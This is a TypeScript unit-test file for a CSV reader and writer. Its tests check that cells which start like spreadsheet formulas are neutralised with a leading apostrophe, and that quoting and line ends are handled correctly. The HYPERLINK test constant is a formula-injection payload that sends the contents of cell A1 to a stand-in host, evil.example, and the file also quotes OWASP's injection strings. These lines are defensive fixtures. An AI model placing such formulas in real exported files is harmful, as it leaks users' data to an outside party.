import { describe, expect, it } from "vitest";
import { CsvQuoteError, readCsv, writeCsv } from "./csv";

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';
const cell = (value: string | number | boolean | null, options?: Parameters<typeof writeCsv>[1]) =>
  writeCsv([[value]], options);

describe("writing CSV", () => {
  it("writes a cell that starts like a formula as quoted text with a leading '", () => {
    expect(cell(HYPERLINK)).toBe(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click me"")"`);
    for (const [text, written] of [
      ["=1+2", `"'=1+2"`],
      ["+1", `"'+1"`],
      ["-1+2", `"'-1+2"`],
      ["-", `"'-"`],
      ["@SUM(A1:A9)", `"'@SUM(A1:A9)"`],
      ["\t=1+2", `"'\t=1+2"`],
      ["\tname", `"'\tname"`],
      ["\r=1+2", `"'\r=1+2"`],
      ["\n=1+2", `"'\n=1+2"`],
      // A line break after the formula does not hide it.
      ["=1+2\nsecond line", `"'=1+2\nsecond line"`],
      // Nor do spaces or quotes before it.
      ["  =1+2", `"'  =1+2"`],
      ['"=1+2', `"'""=1+2"`],
      // OWASP's two examples.
      ['=1+2";=1+2', `"'=1+2"";=1+2"`],
      [`=1+2'" ;,=1+2`, `"'=1+2'"" ;,=1+2"`],
    ] as const) {
      expect(cell(text), JSON.stringify(text)).toBe(written);
    }
  });

  it("quotes a cell where a formula would start after a semicolon or a tab", () => {
    expect(cell("Plant;=1+2")).toBe(`"Plant;=1+2"`);
    expect(cell("Plant; -1+2")).toBe(`"Plant; -1+2"`);
    expect(cell("Plant\t@SUM(A1)")).toBe(`"Plant\t@SUM(A1)"`);
    expect(cell("ASHRAE; IPCC")).toBe("ASHRAE; IPCC");
  });

  it("writes numbers as numbers, negative ones too", () => {
    expect(writeCsv([[-1600, -12.5, 0, 3.25, 1e-7]])).toBe("-1600,-12.5,0,3.25,1e-7");
    // A number as text is text, unless its column holds numbers.
    expect(writeCsv([[-1600, "-1600"]])).toBe(`-1600,"'-1600"`);
    expect(writeCsv([["Boiler", "-1600", "-12.5", "4"]], { numberColumns: [1, 2, 3] })).toBe("Boiler,-1600,-12.5,4");
    // There only a plain decimal is a number.
    expect(writeCsv([["=1-2", "-1,600", "-1e3", "+5", " -5"]], { numberColumns: [0, 1, 2, 3, 4] })).toBe(
      `"'=1-2","'-1,600","'-1e3","'+5","' -5"`,
    );
  });

  it("leaves ordinary text as it was", () => {
    const text = ["Pune Assembly Plant", "Rao Steel", "a-b", "x=y", "e-mail", "O'Brien", "ASHRAE; IPCC", "2026-04-01"];
    expect(writeCsv([text])).toBe(text.join(","));
    expect(writeCsv([[null, "", true, false, undefined]])).toBe(",,true,false,");
  });

  it("still quotes commas, quotes and line breaks, CRLF between rows and none after the last", () => {
    expect(
      writeCsv([
        ["name", "note"],
        ["Shah Foods, Pune", 'He said "hi"'],
        ["two\r\nlines", "one\nmore"],
      ]),
    ).toBe('name,note\r\n"Shah Foods, Pune","He said ""hi"""\r\n"two\r\nlines","one\nmore"');
  });

  it("writes cells as they are for a program when asked", () => {
    expect(writeCsv([["=1+2", "-5", "a,b"]], { neutraliseFormulae: false })).toBe('=1+2,-5,"a,b"');
  });

  it("reads back the neutralised text, and every other cell as written", () => {
    const rows = [
      ["Facility", "tCO2e", "Note"],
      [HYPERLINK, -1600, "Shah Foods, Pune"],
      ["@SUM(A1:A9)", -12.5, 'He said "hi"\nand left'],
      ["\t=1+2", 0, "-"],
    ];
    expect(readCsv(writeCsv(rows))).toEqual([
      ["Facility", "tCO2e", "Note"],
      [`'${HYPERLINK}`, "-1600", "Shah Foods, Pune"],
      ["'@SUM(A1:A9)", "-12.5", 'He said "hi"\nand left'],
      ["'\t=1+2", "0", "'-"],
    ]);
  });
});

describe("reading CSV", () => {
  it("drops a byte order mark and blank rows, with CRLF, LF or CR line ends", () => {
    for (const end of ["\r\n", "\n", "\r"]) {
      const text = `\uFEFFa,b${end}1,"x${end}y"${end}${end} , ${end}2,3${end}`;
      expect(readCsv(text), JSON.stringify(end)).toEqual([
        ["a", "b"],
        ["1", "x\ny"],
        ["2", "3"],
      ]);
    }
  });

  it("reads a file that mixes CRLF, LF and CR line ends row by row", () => {
    expect(readCsv("a,b\r\n1,2\n3,4\r5,6\r\n")).toEqual([
      ["a", "b"],
      ["1", "2"],
      ["3", "4"],
      ["5", "6"],
    ]);
  });

  it("keeps rows of blank cells when only empty lines are to go", () => {
    expect(readCsv("a,b\r\n,\r\n\r\n1,2\r\n", { drop: "empty" })).toEqual([
      ["a", "b"],
      ["", ""],
      ["1", "2"],
    ]);
  });

  it("keeps every row, empty lines too, when none are to go", () => {
    expect(readCsv('a,b\r\n,\r\n\r\n"1\n2",3', { drop: "none" })).toEqual([["a", "b"], ["", ""], [""], ["1\n2", "3"]]);
  });

  it("names the line of a quote never closed, or of text after a closing quote", () => {
    const unclosed = () => readCsv('a,b\r\n1,2\r\n3,"four\r\n5,6');
    expect(unclosed).toThrow(CsvQuoteError);
    expect(unclosed).toThrow("A quote opened on line 3 is never closed.");
    expect(() => readCsv('a,b\n"1"x,2\n')).toThrow(/^A quoted field on line 2 has text after its closing quote/);
  });
});
